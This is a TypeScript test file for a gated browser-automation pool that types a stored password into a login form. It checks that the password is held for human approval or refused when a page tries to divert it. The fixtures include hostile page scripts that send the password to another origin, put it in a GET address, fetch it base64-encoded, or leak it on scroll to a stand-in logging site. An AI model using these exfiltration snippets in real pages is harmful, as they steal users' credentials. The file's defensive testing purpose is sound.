import assert from 'node:assert/strict';
import { after, before, describe, test, type TestContext } from 'node:test';
import type { BrowserPool } from '../../../src/browser/browser-pool.ts';
import { eventually } from '../../support/eventually.ts';
import { openGated, startLoggingSite, wordsOf } from '../gated.ts';
import { startPool } from '../site.ts';

const value = 'correct-horse-1';
const mark = '{{secret:SHOP}}';
const policy = [{ effect: 'submit', decision: 'allow' } as const];
const inAddress = 'The secret SHOP would appear in the address.';

describe('a secret that was typed for a form by POST to its own origin', () => {
  let pool: BrowserPool;
  const sites: string[] = [];
  before(() => {
    pool = startPool({ secrets: [{ name: 'SHOP', value, sites }] });
  });
  after(() => pool.closeAll());

  /** A login, and what came to it and to another site that the session may be on as well. */
  async function login(t: TestContext, attributes: string, { script = '', isOtherDenied = false } = {}) {
    const came = { '/': 'Thank you', '/in': 'Thank you', [`/in?p=${value}`]: 'Thank you' };
    const other = await startLoggingSite(t, came);
    const site = await startLoggingSite(t, {
      ...came,
      '/go': (_, response) => response.writeHead(303, { location: `/in?p=${value}` }).end(),
      '/login':
        `<form method="post" action="/in" ${attributes}><label>Password <input id="field" name="p" type="password"></label>
        <button>Sign in</button></form><script>${script}</script>`.replaceAll('{other}', other.url),
    });
    sites.push(site.url);
    const denied = { effect: 'submit', decision: 'deny', origin: other.url } as const;
    const rules = isOtherDenied ? [denied, ...policy] : policy;
    const session = await openGated(t, pool, [site.name, other.name], { policy: rules });
    await session.open(`${site.url}/login`);
    const ref = await session.refOf('textbox');
    await session.act({ tool: 'type', arguments: { ref, text: mark } });
    const press = () => session.click('button', { permitted: 'submit' });
    return {
      other,
      session,
      press,
      got: () => [...site.log, ...other.log].filter((line) => !line.includes('/login')),
    };
  }

  test('is sent so without a question, and its server may lead on with it', async (t) => {
    const plain = await login(t, '');
    const step = await plain.press();
    const led = await login(t, `onsubmit="this.action = '/go'"`);
    const further = await led.press();

    assert.deepEqual([step.held, further.held], [undefined, undefined]);
    assert.deepEqual(plain.got(), [`POST /in p=${value}`]);
    assert.deepEqual(led.got(), [`POST /go p=${value}`, `GET /in?p=${value}`]);
    assert.ok(!wordsOf(further).includes(value), wordsOf(further));
  });

  const ways: [how: string, attributes: string, because: string][] = [
    ['by GET', `onsubmit="this.method = 'get'"`, inAddress],
    ['by a script that opens an address', `onsubmit="location = '/in?p=' + field.value; return false"`, inAddress],
    ['by a script that asks for an address', `onsubmit="fetch('/in?p=' + btoa(field.value)); return false"`, inAddress],
    ['to another origin', `onsubmit="this.action = '{other}/in'"`, 'The secret SHOP would be sent to {other}.'],
    ['to another origin by GET', `onsubmit="this.method = 'get'; this.action = '{other}/in'"`, inAddress],
  ];
  for (const [how, attributes, because] of ways)
    test(`waits for a person where it is sent otherwise after all: ${how}`, async (t) => {
      const { other, session, press, got } = await login(t, attributes);

      const step = await press();
      const before = got();
      await session.settle(step, true);

      assert.equal(step.held?.because, because.replace('{other}', other.url));
      assert.ok(!JSON.stringify(step.held).includes(value), JSON.stringify(step.held));
      assert.deepEqual(before, []);
    });

  test('goes nowhere else once nothing is being done, and the session is told', async (t) => {
    const script = `document.body.style.height = '9000px'; onscroll = () => fetch('{other}/in?p=' + field.value)`;
    const { got, session } = await login(t, '', { script });
    let words = wordsOf(await session.act({ tool: 'scroll', arguments: { direction: 'down' } }));
    await eventually('the session is told', async () => {
      words += wordsOf(await session.act({ tool: 'snapshot', arguments: {} }));
      return words.includes('The page wanted');
    });

    assert.match(words, /The page wanted a request by GET .*, which was refused: The secret SHOP would appear/);
    assert.deepEqual(got(), []);
  });

  test('is not asked about where a rule denies sending there, be it a page or not', async (t) => {
    const said: string[] = [];
    for (const way of ["fetch('{other}/in?p=' + field.value)", "location = '{other}/in?p=' + field.value"]) {
      const { got, press } = await login(t, `onsubmit="${way}; return false"`, { isOtherDenied: true });
      const step = await press();
      assert.equal(step.held, undefined);
      assert.deepEqual(got(), []);
      said.push(wordsOf(step));
    }

    assert.match(said[0] ?? '', /The page wanted a request by GET .*, which was refused: config.policy\[0\] says deny/);
    assert.match(said[1] ?? '', /config.policy\[0\] says deny/);
  });
});
